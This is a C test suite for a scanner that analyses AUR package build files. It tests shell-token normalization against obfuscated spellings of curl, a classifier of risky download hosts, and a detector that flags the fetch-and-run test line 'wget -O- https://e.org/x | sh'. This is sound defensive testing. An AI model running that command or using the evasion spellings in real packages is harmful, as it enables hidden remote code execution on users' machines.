/*
 * test_analysis.c - the analysis framework (outcomes, gaps, locations), the
 * shell token helpers (normalization, the document check) and the AUR
 * family's shared decisions (hosts, publishers).
 */
#include "t.h"

#include <dirent.h>
#include <stdio.h>
#include <stdlib.h>

#include "analysis/analysis.h"
#include "analysis/aur.h"
#include "analysis/sh.h"
#include "base/file.h"
#include "content/parsers/shell.h"
#include "engine/policy.h"

static unsigned norm(const char *raw, const json_t *vars, char *out, size_t *ns)
{
        return prc_sh_norm(raw, vars, out, PRC_SHW_MAX, ns);
}

static void test_analysis__norm_splices_quotes_ansi_and_variables(void)
{
        char out[PRC_SHW_MAX];
        size_t ns;
        unsigned fl;
        json_t *vars = json_pack("{s:s,s:s}", "c", "cu", "d", "rl");

        fl = norm("'b''u''n'", NULL, out, &ns);
        T_EQ_STR(out, "bun");
        T_ASSERT(fl & PRC_SHW_SPLICED);
        fl = norm("c\"ur\"l", NULL, out, &ns);
        T_EQ_STR(out, "curl");
        T_ASSERT(fl & PRC_SHW_SPLICED);
        fl = norm("c\\url", NULL, out, &ns);
        T_EQ_STR(out, "curl");
        T_ASSERT(fl & PRC_SHW_SPLICED);
        /* A whole-word quote is how people write; it is not a splice. */
        fl = norm("\"curl\"", NULL, out, &ns);
        T_EQ_STR(out, "curl");
        T_ASSERT((fl & PRC_SHW_QUOTED) && !(fl & PRC_SHW_SPLICED));
        fl = norm("$'\\x63\\165rl'", NULL, out, &ns);
        T_EQ_STR(out, "curl");
        T_ASSERT(fl & PRC_SHW_ANSI);
        fl = norm("$c${d}", vars, out, &ns);
        T_EQ_STR(out, "curl");
        T_ASSERT((fl & PRC_SHW_VAR) && !(fl & PRC_SHW_UNKNOWN));
        fl = norm("\"$srcdir/x\"", vars, out, &ns);
        T_EQ_STR(out, "/x");
        T_ASSERT(fl & PRC_SHW_UNKNOWN);
        fl = norm("\"$(curl -s u)\"`id`<(cat x)$((1+2))", NULL, out, &ns);
        T_ASSERT(fl & PRC_SHW_SUBST);
        T_EQ_INT(ns, 3);        /* arithmetic is not a command substitution */
        fl = norm("${x:-$(date)}", NULL, out, &ns);
        T_EQ_INT(ns, 1);
        json_decref(vars);
}

static void test_analysis__risky_hosts(void)
{
        T_EQ_STR(prc_aur_risky_host("203.0.113.7"), "a raw IP address");
        T_EQ_STR(prc_aur_risky_host("[2001:db8::1]"), "a raw IP address");
        T_EQ_STR(prc_aur_risky_host("bit.ly"), "a URL shortener");
        T_EQ_STR(prc_aur_risky_host("pastebin.com"), "a paste or file-drop site");
        T_EQ_STR(prc_aur_risky_host("x.duckdns.org"), "a dynamic DNS or tunnel host");
        T_EQ_STR(prc_aur_risky_host("abcdefgh.onion"), "an onion host");
        T_ASSERT(prc_aur_risky_host("github.com") == NULL);
        T_ASSERT(prc_aur_risky_host("notpastebin.com") == NULL);
        T_ASSERT(prc_aur_risky_host("1.2.3") == NULL);
        T_ASSERT(prc_aur_risky_host("1.2.3.4.example.org") == NULL);
}

static void test_analysis__url_host_and_publishers(void)
{
        char h[256];

        T_ASSERT(prc_aur_url_host("https://user:pw@Example.ORG:8443/x?y", h, sizeof(h)));
        T_EQ_STR(h, "example.org");
        T_ASSERT(prc_aur_url_host("http://[2001:db8::1]:80/x", h, sizeof(h)));
        T_EQ_STR(h, "[2001:db8::1]");
        T_ASSERT(!prc_aur_url_host("demo.patch", h, sizeof(h)));
        T_ASSERT(prc_aur_same_publisher("https://www.demo.org", "https://download.demo.org/x.tar.gz"));
        T_ASSERT(!prc_aur_same_publisher("https://www.demo.co.uk", "https://dl.other.co.uk/x"));
        T_ASSERT(prc_aur_same_publisher("https://github.com/Demo/demo", "https://github.com/demo/demo/releases/x"));
        T_ASSERT(!prc_aur_same_publisher("https://github.com/demo/demo", "https://github.com/evil/demo/releases/x"));
        T_ASSERT(prc_aur_same_publisher("https://github.com/demo/demo", "https://raw.githubusercontent.com/demo/x/y"));
        T_ASSERT(prc_aur_same_publisher("https://brave.com", "https://github.com/brave/brave-browser/releases/x"));
        T_ASSERT(!prc_aur_same_publisher("https://zen-browser.app", "https://github.com/evil/zen-patch/releases/x"));
        T_ASSERT(prc_aur_source_is_vcs("demo::git+https://github.com/demo/demo.git#tag=v1"));
        T_ASSERT(!prc_aur_source_is_vcs("https://github.com/demo/demo.git.tar.gz"));
        T_ASSERT(prc_aur_source_is_local("fix.patch"));
        T_EQ_STR(prc_aur_source_url_of("a.tar.gz::https://x/a"), "https://x/a");
}

static json_t *tokenize(const char *src, unsigned flags)
{
        prc_err e;
        json_t *d;

        prc_err_init(&e);
        d = prc_shell_tokenize((const uint8_t *)src, strlen(src), &prc_limits_default, flags, &e);
        if (d == NULL)
                t_fail(__FILE__, __LINE__, "tokenize: %s", e.msg);
        return d;
}

static void test_analysis__check_refuses_what_the_worker_never_sends(void)
{
        json_t *d = tokenize("pkgname=x\nbuild() { curl \"$(echo u)\"; }\n", PRC_SHELL_RECOVER), *c;
        prc_err e;

        prc_err_init(&e);
        T_ASSERT(prc_sh_check(d, false, &e));
        T_ASSERT(!prc_sh_check(d, true, &e));
        T_ERR(e, PRC_E_TOKENS_INVALID);
        c = json_deep_copy(d);
        json_object_set_new(c, "extra", json_true());
        prc_err_init(&e);
        T_ASSERT(!prc_sh_check(c, false, &e));
        T_ERR(e, PRC_E_TOKENS_INVALID);
        json_decref(c);
        c = json_deep_copy(d);
        json_object_set_new(json_array_get(json_object_get(c, "assignments"), 0), "line", json_integer(0));
        prc_err_init(&e);
        T_ASSERT(!prc_sh_check(c, false, &e));
        T_EQ_STR(e.ptr, "/assignments/0");
        json_decref(c);
        /* A value without "static": true is a lie about the tokenizer's shape. */
        c = json_deep_copy(d);
        json_object_set_new(json_array_get(json_object_get(c, "assignments"), 0), "static", json_false());
        prc_err_init(&e);
        T_ASSERT(!prc_sh_check(c, false, &e));
        json_decref(c);
        json_decref(d);
}

/* Every fixture file the scan tokenizes passes the check it is given (the worker and the check agree). */
static void test_analysis__every_fixture_document_passes_the_check(void)
{
        static const char *const fams[] = { "checksums", "source-url", "bin-host", "remote-exec", "toplevel-code",
                                            "srcinfo-drift", "obfuscation", "install-hooks", "recovery" };
        size_t n = 0;

        for (size_t f = 0; f < sizeof(fams) / sizeof(fams[0]); f++) {
                char dir[4200];
                DIR *dp;
                struct dirent *de;
                snprintf(dir, sizeof(dir), "%s/tests/fixtures/aur/%s", t_root(), fams[f]);
                dp = opendir(dir);
                T_ASSERT(dp != NULL);
                while ((de = readdir(dp)) != NULL) {
                        static const char *const names[] = { "PKGBUILD", ".SRCINFO", "demo.install" };
                        if (de->d_name[0] == '.')
                                continue;
                        for (size_t k = 0; k < 3; k++) {
                                char path[4500];
                                prc_buf b;
                                prc_err e;
                                json_t *d;
                                snprintf(path, sizeof(path), "%s/%s/%s", dir, de->d_name, names[k]);
                                prc_err_init(&e);
                                prc_buf_init(&b, 1 << 20);
                                if (!prc_file_read(path, 1 << 20, 0, &b, &e)) {
                                        prc_buf_clear(&b);
                                        continue;
                                }
                                d = prc_shell_tokenize(b.data ? b.data : (const uint8_t *)"", b.len,
                                                       &prc_limits_default,
                                                       PRC_SHELL_RECOVER | (k == 1 ? PRC_SHELL_SRCINFO : 0), &e);
                                prc_buf_clear(&b);
                                T_NOERR(e);
                                T_ASSERT(prc_sh_check(d, k == 1, &e));
                                json_decref(d);
                                n++;
                        }
                }
                closedir(dp);
        }
        T_ASSERT(n >= 80);
}

struct run {
        prc_obs_list l;
        bool         gap;
        prc_err      e;
};

static void run_one(const char *id, const prc_adoc *docs, size_t ndocs, const prc_gap *gaps, size_t ngaps,
                    struct run *r)
{
        prc_ainput in = { NULL, 0, docs, ndocs, gaps, ngaps, NULL, NULL };

        memset(r, 0, sizeof(*r));
        prc_err_init(&r->e);
        T_ASSERT(prc_analysis_run(prc_analysis_find(id), &in, &r->l, &r->gap, &r->e));
}

static void test_analysis__outcomes_found_not_found_unsupported_and_gaps(void)
{
        json_t *bad = tokenize("pkgname=x\nbuild() {\n  wget -O- https://e.org/x | sh\n}\n", PRC_SHELL_RECOVER);
        json_t *good = tokenize("pkgname=x\nbuild() {\n  make\n}\n", PRC_SHELL_RECOVER);
        prc_adoc d = { "pkg/PKGBUILD", PRC_AK_PKGBUILD, bad };
        prc_gap g;
        struct run r;
        json_t *l;

        T_ASSERT(prc_analysis_find("no-such-analysis") == NULL);
        run_one("aur-remote-exec", &d, 1, NULL, 0, &r);
        T_EQ_INT(r.l.n, 1);
        T_EQ_INT(r.l.items[0].outcome, PRC_OUT_FOUND);
        T_EQ_STR(r.l.items[0].kind, "aur-remote-exec");
        T_EQ_STR(r.l.items[0].source, "builtin:aur-remote-exec");
        l = json_array_get(r.l.items[0].locations, 0);
        T_EQ_STR(json_string_value(json_object_get(l, "path")), "pkg/PKGBUILD");
        T_EQ_INT(json_integer_value(json_object_get(l, "line")), 3);
        T_EQ_STR(json_string_value(json_object_get(l, "text")), "wget -O- https://e.org/x | sh");
        prc_obs_list_clear(&r.l);

        d.doc = good;
        run_one("aur-remote-exec", &d, 1, NULL, 0, &r);
        T_EQ_INT(r.l.n, 1);
        T_EQ_INT(r.l.items[0].outcome, PRC_OUT_NOT_FOUND);
        T_ASSERT(!r.gap);
        prc_obs_list_clear(&r.l);

        /* A gap on a needed document: no not_found, and the caller is told. */
        memset(&g, 0, sizeof(g));
        snprintf(g.path, sizeof(g.path), "pkg/x.install");
        snprintf(g.cls, sizeof(g.cls), "shell-syntax");
        run_one("aur-remote-exec", &d, 1, &g, 1, &r);
        T_EQ_INT(r.l.n, 0);
        T_ASSERT(r.gap);
        prc_obs_list_clear(&r.l);
        /* ... but a gap on a document it does not read changes nothing. */
        snprintf(g.path, sizeof(g.path), "pkg/.SRCINFO");
        run_one("aur-remote-exec", &d, 1, &g, 1, &r);
        T_EQ_INT(r.l.items[0].outcome, PRC_OUT_NOT_FOUND);
        T_ASSERT(!r.gap);
        prc_obs_list_clear(&r.l);

        /* Nothing to read at all: unsupported, never not_found. */
        run_one("aur-checksums", NULL, 0, NULL, 0, &r);
        T_EQ_INT(r.l.n, 1);
        T_EQ_INT(r.l.items[0].outcome, PRC_OUT_UNSUPPORTED);
        prc_obs_list_clear(&r.l);
        json_decref(bad);
        json_decref(good);
}

/* ManifestDocs reach analyses by kind; a refused manifest is a gap of its extractor's kind. */
static void test_analysis__manifest_docs_by_kind_and_their_gaps(void)
{
        prc_gap g;

        T_EQ_INT(prc_analysis_mdoc_kind("github-actions"), PRC_AK_WORKFLOW);
        T_EQ_INT(prc_analysis_mdoc_kind("docker"), PRC_AK_DOCKERFILE);
        T_EQ_INT(prc_analysis_mdoc_kind("cargo"), PRC_AK_DEPS);
        T_EQ_INT(prc_analysis_mdoc_kind(NULL), 0);

        memset(&g, 0, sizeof(g));
        snprintf(g.path, sizeof(g.path), ".github/workflows/broken.yml");
        T_EQ_INT(prc_analysis_gap_kind(&g), PRC_AK_WORKFLOW);
        snprintf(g.path, sizeof(g.path), "svc/Containerfile");
        T_EQ_INT(prc_analysis_gap_kind(&g), PRC_AK_DOCKERFILE);
        snprintf(g.path, sizeof(g.path), "web/package-lock.json");
        T_EQ_INT(prc_analysis_gap_kind(&g), PRC_AK_DEPS);
        snprintf(g.path, sizeof(g.path), "README.md");
        T_EQ_INT(prc_analysis_gap_kind(&g), 0);
        g.kind = PRC_AK_DEPS;   /* set by the scan (an include it could not follow) wins over the name */
        T_EQ_INT(prc_analysis_gap_kind(&g), PRC_AK_DEPS);
}

static void test_analysis__excerpt_is_bounded_and_clean(void)
{
        char out[16];

        prc_act_excerpt("a\tb\x1b[31m\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9", 12, out, sizeof(out));
        T_EQ_STR(out, "a b [31m\xc3\xa9\xc3\xa9");
        prc_act_excerpt(NULL, 10, out, sizeof(out));
        T_EQ_STR(out, "");
}

static void test_analysis__registry_ids_are_unique_and_documented(void)
{
        char path[4200];
        prc_buf b;
        prc_err e;

        snprintf(path, sizeof(path), "%s/docs/analyses.md", t_root());
        prc_err_init(&e);
        prc_buf_init(&b, 1 << 20);
        T_ASSERT(prc_file_read(path, 1 << 20, 0, &b, &e));
        T_ASSERT(prc_buf_putc(&b, 0, &e));
        for (size_t i = 0; i < prc_analysis_count; i++) {
                char head[160];
                for (size_t j = i + 1; j < prc_analysis_count; j++)
                        T_ASSERT(strcmp(prc_analysis_table[i].id, prc_analysis_table[j].id) != 0);
                snprintf(head, sizeof(head), "### `%s`", prc_analysis_table[i].id);
                if (strstr((const char *)b.data, head) == NULL)
                        t_fail(__FILE__, __LINE__, "docs/analyses.md has no section '%s'", head);
        }
        prc_buf_clear(&b);
}

static const prc_test tests[] = {
        T(test_analysis__norm_splices_quotes_ansi_and_variables),
        T(test_analysis__risky_hosts),
        T(test_analysis__url_host_and_publishers),
        T(test_analysis__check_refuses_what_the_worker_never_sends),
        T(test_analysis__every_fixture_document_passes_the_check),
        T(test_analysis__outcomes_found_not_found_unsupported_and_gaps),
        T(test_analysis__manifest_docs_by_kind_and_their_gaps),
        T(test_analysis__excerpt_is_bounded_and_clean),
        T(test_analysis__registry_ids_are_unique_and_documented),
};
PRC_SUITE(analysis, tests)
